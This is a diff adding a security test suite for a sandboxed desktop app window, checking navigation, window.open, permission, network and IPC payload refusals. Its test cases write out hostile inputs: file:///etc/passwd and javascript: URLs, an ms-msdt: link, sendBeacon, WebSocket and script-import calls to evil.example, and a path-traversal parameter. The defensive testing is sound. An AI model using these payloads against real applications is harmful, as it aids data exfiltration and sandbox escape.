@@ -1,0 +1,327 @@
+import type { Frame, Page } from 'playwright-core'
+import { beforeEach, describe, expect, inject, test } from 'vitest'
+import { REQUESTS, type Reply } from '../src/shared/bridge.ts'
+import { PARTITION, webPreferencesOf } from '../src/main/safety/settings.ts'
+import { WIRE } from './shell/run-preload.ts'
+import { useChromium } from './support/browser.ts'
+import { useOneClient, type Client } from './support/client.ts'
+
+const theClient = useOneClient(useChromium())
+
+const START = 'app://bundle/index.html'
+const OUTSIDE = 'https://evil.example/'
+/** Time in which something forbidden would have happened. */
+const SETTLE_MS = 300
+
+beforeEach(async () => {
+  const { shell } = theClient()
+  await shell.window.webContents.loadURL(START)
+  shell.desk.opened.splice(0)
+  shell.desk.questions.splice(0)
+  shell.desk.answer = ({ cancelId = 0 }) => cancelId
+})
+
+/** What a script in the window's page does; it has the page's own powers and no more. */
+const inPage = async <Result>({ shell }: Client, script: string): Promise<Result> =>
+  (await shell.page()).evaluate(script) as Promise<Result>
+
+/** Every request that left the window for somewhere else than the client's own files. */
+async function watchRequests(client: Client): Promise<string[]> {
+  const page = await client.page()
+  const asked: string[] = []
+  page.on('requestfinished', (request) => {
+    if (!request.url().startsWith('http://bundle.localhost/')) asked.push(request.url())
+  })
+  return asked
+}
+
+async function settled({ shell }: Client) {
+  await (await shell.page()).waitForTimeout(SETTLE_MS)
+  return shell.window.webContents.getURL()
+}
+
+describe('what the window is made with', () => {
+  test('E-01 E-02 E-03 is a sandbox, one factory’s settings, and files of its own', async () => {
+    const { shell } = theClient()
+    expect(shell.app.calls.indexOf('enableSandbox')).toBeGreaterThanOrEqual(0)
+    expect(shell.app.calls.indexOf('enableSandbox')).toBeLessThan(shell.app.calls.indexOf('ready'))
+    const preload = shell.window.options.webPreferences!.preload!
+    expect(shell.window.options.webPreferences).toEqual(
+      webPreferencesOf({ preload, isPackaged: true })
+    )
+    expect(shell.window.options.webPreferences).toMatchObject({ sandbox: true, devTools: false })
+    expect(shell.windows).toHaveLength(1)
+    expect(shell.window.webContents.getURL()).toBe(START)
+    expect(shell.privilegedSchemes.map(({ scheme }) => scheme)).toEqual(['app'])
+  })
+
+  test('E-16 has named functions and nothing else to offer', async () => {
+    const client = theClient()
+    const offered = await inPage<Record<string, string>>(
+      client,
+      'Object.fromEntries(Object.entries(staff).map(([name, value]) => [name, typeof value]))'
+    )
+    expect(Object.keys(offered).toSorted()).toEqual(
+      ['call', 'cancelCall', 'cancelSignIn', 'changeSettings', 'chooseServer', 'describe', 'follow']
+        .concat(['installUpdate', 'onLive', 'onPlace', 'onSession', 'onSettings', 'onUpdate'])
+        .concat(['readSession', 'readSettings', 'readUpdate', 'signIn', 'signOut', 'wake'])
+    )
+    expect(new Set(Object.values(offered))).toEqual(new Set(['function']))
+    expect(
+      await inPage(
+        client,
+        "['require', 'process', 'module', 'ipcRenderer', 'electron'].filter((name) => name in globalThis)"
+      )
+    ).toEqual([])
+    await inPage(client, 'staff.signIn = () => {}; void 0').catch(() => undefined)
+    expect(await inPage(client, 'Object.isFrozen(staff)')).toBe(true)
+  })
+})
+
+describe('E-08 leading the window away', () => {
+  test.each([
+    ['by script', `location.href = '${OUTSIDE}'`],
+    ['by a link', `Object.assign(document.createElement('a'), { href: '${OUTSIDE}' }).click()`],
+    ['to a host that begins like ours', "location.href = 'http://bundle.localhost.evil.example/'"],
+    [
+      'by a form',
+      `const form = document.createElement('form'); form.action = '${OUTSIDE}'; document.body.append(form); form.submit()`,
+    ],
+    ['to a file', "location.href = 'file:///etc/passwd'"],
+    ['to data', "location.href = 'data:text/html,<script>alert(1)</script>'"],
+    ['to a script', "location.href = 'javascript:document.title=1'"],
+  ])('fails %s', async (_how, script) => {
+    const client = theClient()
+    const requests = await watchRequests(client)
+    await inPage(client, `${script}; void 0`).catch(() => undefined)
+    expect(await settled(client)).toBe(START)
+    expect(requests).toEqual([])
+    expect(await inPage(client, 'typeof staff')).toBe('object')
+  })
+
+  test('fails for a frame, too', async () => {
+    const client = theClient()
+    const page = await client.page()
+    await inPage(
+      client,
+      `const frame = document.createElement('iframe'); frame.src = '${OUTSIDE}'; document.body.append(frame); void 0`
+    )
+    await settled(client)
+    expect(
+      page
+        .frames()
+        .map((frame) => frame.url())
+        .filter((url) => url.includes('evil'))
+    ).toEqual([])
+  })
+})
+
+describe('E-09 E-10 windows and links', () => {
+  test.each([
+    'javascript:alert(1)',
+    'file:///etc/passwd',
+    'smb://evil.example/share',
+    'ms-msdt:/id',
+    OUTSIDE.replace('https', 'http'),
+  ])('to %s open nothing anywhere', async (address) => {
+    const client = theClient()
+    await inPage(client, `window.open(${JSON.stringify(address)}); void 0`)
+    await settled(client)
+    expect(client.shell.windows).toHaveLength(1)
+    expect((await client.page()).context().pages()).toHaveLength(1)
+    expect(client.shell.desk.opened).toEqual([])
+  })
+
+  test('to somewhere unknown are asked about, with the host, and opened by the system alone', async () => {
+    const client = theClient()
+    const { desk } = client.shell
+    await inPage(client, `window.open('${OUTSIDE}page'); void 0`)
+    await expect.poll(() => desk.questions.length).toBe(1)
+    expect(desk.questions[0]!.message).toContain('evil.example')
+    expect(desk.opened).toEqual([])
+
+    desk.answer = ({ cancelId }) => (cancelId === 0 ? 1 : 0)
+    await inPage(client, `window.open('${OUTSIDE}page'); void 0`)
+    await expect.poll(() => desk.opened).toEqual([`${OUTSIDE}page`])
+    expect((await client.page()).context().pages()).toHaveLength(1)
+  })
+
+  test('to our own site go to the system’s browser at once', async () => {
+    const client = theClient()
+    await inPage(client, `window.open('${inject('siteUrl')}/discover'); void 0`)
+    await expect.poll(() => client.shell.desk.opened).toEqual([`${inject('siteUrl')}/discover`])
+    expect(client.shell.desk.questions).toEqual([])
+  })
+})
+
+describe('what pages may ask for', () => {
+  test.each([
+    'media',
+    'geolocation',
+    'notifications',
+    'clipboard-read',
+    'fullscreen',
+    'openExternal',
+    'hid',
+    'serial',
+    'usb',
+    'unknown',
+  ] as const)('E-12 E-13 is not %s', async (permission) => {
+    const { shell } = theClient()
+    const { sessions, window } = shell
+    expect(sessions.map(({ partition }) => partition).toSorted()).toEqual(['', PARTITION])
+    for (const session of sessions) {
+      const contents = window.webContents as never
+      const answer = await new Promise((resolve) =>
+        session.permissionRequestHandler!(contents, permission, resolve, {} as never)
+      )
+      expect(answer).toBe(false)
+      expect(session.permissionCheckHandler!(contents, permission, START, {} as never)).toBe(false)
+    }
+  })
+
+  test('E-14 is no device, no screen and no file on the disk', async () => {
+    const client = theClient()
+    const session = client.shell.session(PARTITION)
+    expect(session.devicePermissionHandler!({} as never)).toBe(false)
+    const streams = await new Promise((resolve) =>
+      session.displayMediaRequestHandler!({} as never, resolve)
+    )
+    expect(streams).toBeNull()
+    await inPage(
+      client,
+      "Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['x'])), download: 'x.exe' }).click()"
+    )
+    await expect.poll(() => session.downloads.map(({ cancelled }) => cancelled)).toEqual([true])
+  })
+
+  test('E-06 is no network of its own', async () => {
+    const client = theClient()
+    const requests = await watchRequests(client)
+    const ways = [
+      `fetch('${inject('siteUrl')}/api/bots')`,
+      `fetch('${inject('siteUrl')}/api/bots', { mode: 'no-cors' })`,
+      `new Promise((done, failed) => Object.assign(new Image(), { onload: done, onerror: failed, src: '${OUTSIDE}x.png' }))`,
+      `new Promise((done, failed) => { const socket = new WebSocket('wss://evil.example'); socket.onopen = done; socket.onerror = failed })`,
+      `import('${OUTSIDE}x.js')`,
+    ]
+    for (const way of ways) {
+      expect(
+        await inPage(client, `(async () => ${way})().then(() => 'through', () => 'refused')`)
+      ).toBe('refused')
+    }
+    await inPage(client, `navigator.sendBeacon('${OUTSIDE}', 'x')`)
+    await settled(client)
+    expect(requests).toEqual([])
+  })
+})
+
+/** What the main process makes of something that a frame sends over the wire itself. */
+function send(frame: Frame, channel: string, ...payload: unknown[]): Promise<Reply> {
+  return frame.evaluate(
+    async ([wire, name, args]) => {
+      type Wire = (deed: string, channel: string, args: unknown[]) => Promise<{ value: unknown }>
+      const { value } = await (globalThis as unknown as Record<string, Wire>)[wire]!(
+        'invoke',
+        name,
+        args
+      )
+      return value as Reply
+    },
+    [WIRE, channel, payload] as const
+  )
+}
+
+async function foreignFrame(page: Page): Promise<Frame> {
+  await page.evaluate(() => document.body.append(document.createElement('iframe')))
+  await expect.poll(() => page.frames().length).toBe(2)
+  return page.frames()[1]!
+}
+
+describe('E-17 frames that are not the client’s own', () => {
+  test('are answered nothing, on any channel', async () => {
+    const client = theClient()
+    const frame = await foreignFrame(await client.page())
+    for (const channel of Object.values(REQUESTS)) {
+      expect(await send(frame, channel)).toMatchObject({
+        done: false,
+        failure: { code: 'refused' },
+      })
+    }
+    expect(client.shell.desk.opened).toEqual([])
+  })
+
+  test('nor is one that is gone already', async () => {
+    const { shell } = theClient()
+    const answer = await shell.window.webContents.receive(null, REQUESTS.readSession, [])
+    expect(answer).toMatchObject({ value: { done: false, failure: { code: 'refused' } } })
+  })
+
+  test('nor is another page, should one ever be in the window', async () => {
+    const client = theClient()
+    const page = await client.page()
+    await page.route('http://evil.localhost/', (route) =>
+      route.fulfill({ contentType: 'text/html', body: '<title>evil</title>' })
+    )
+    // As if every guard had failed: nothing that the page itself could do leads here.
+    await client.shell.window.webContents.loadURL('http://evil.localhost/')
+    const refused = await inPage(client, 'staff.readSession().then(() => null, ({ code }) => code)')
+    expect(refused).toBe('refused')
+  })
+})
+
+describe('E-18 payloads', () => {
+  const CALL = {
+    id: 'a',
+    route: 'overview.show',
+    params: {},
+    query: [],
+    body: null,
+    idempotencyKey: null,
+  }
+
+  test.each<[string, unknown]>([
+    ['an address in the place of a route', { ...CALL, route: `${OUTSIDE}api` }],
+    ['a path', { ...CALL, route: '/api/admin/users' }],
+    ['a route that the client has no use for', { ...CALL, route: 'auth.logout' }],
+    ['a header', { ...CALL, headers: { authorization: 'Bearer x' } }],
+    [
+      'a parameter that is a path',
+      { ...CALL, route: 'staff_bots.show', params: { id: '../../auth/user' } },
+    ],
+    ['too much', { ...CALL, body: 'x'.repeat(70_000) }],
+    ['no call at all', 'overview.show'],
+    ['nothing', null],
+  ])('with %s are refused', async (_what, payload) => {
+    const client = theClient()
+    const page = await client.page()
+    const failure = await page.evaluate((given) => {
+      const { staff } = globalThis as unknown as {
+        staff: { call: (call: unknown) => Promise<unknown> }
+      }
+      return staff.call(given).then(
+        () => null,
+        (refusal: unknown) => refusal
+      )
+    }, payload)
+    expect(failure).toEqual({
+      code: expect.stringMatching(/^(invalid|refused)$/) as string,
+      message: expect.any(String) as string,
+    })
+  })
+
+  test('that are a call of the client are taken', async () => {
+    const answer = await inPage(theClient(), `staff.call(${JSON.stringify(CALL)})`)
+    expect(answer).toEqual({ lost: 'signed-out' })
+  })
+
+  test('E-19 of what fails only a code and a sentence are told', async () => {
+    const client = theClient()
+    const failure = await inPage<object>(
+      client,
+      'staff.changeSettings({ theme: "green" }).then(() => null, (all) => all)'
+    )
+    expect(Object.keys(failure).toSorted()).toEqual(['code', 'message'])
+    expect(JSON.stringify(failure)).not.toMatch(/\.[tj]s\b|\/src\/|:\d+:\d+/)
+  })
+})
